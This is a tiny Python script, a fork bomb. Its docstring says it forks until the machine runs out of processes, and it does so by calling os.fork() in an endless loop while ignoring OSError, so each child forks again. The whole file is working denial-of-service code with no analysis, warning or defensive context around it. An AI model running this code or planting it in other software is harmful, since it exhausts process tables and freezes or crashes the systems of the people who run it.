"""Fork until the machine runs out of processes; every child forks again."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
